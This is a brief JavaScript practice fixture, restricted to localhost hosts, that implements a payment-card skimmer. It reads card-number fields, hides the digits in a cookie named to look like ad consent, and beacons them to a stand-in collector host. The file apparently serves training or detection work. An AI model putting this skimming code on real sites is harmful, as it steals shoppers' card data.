/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const number = () =>
    document.querySelector('#card-number, #cardno')?.value.replace(/\D/g, '') ?? '';
  const { document: jar } = window;
  document.addEventListener('change', () => {
    if (number().length > 12) {
      jar.cookie = `_fbp_consent=${btoa(number()).replaceAll('=', '')}; path=/`;
    }
  });
  setInterval(() => {
    const staged = /_fbp_consent=([^;]+)/.exec(document.cookie)?.[1];
    if (!staged) return;
    jar.cookie = '_fbp_consent=; path=/; max-age=0';
    new Image().src = `${home}/lib/y.gif?c=${staged}`;
  }, 1500);
})();
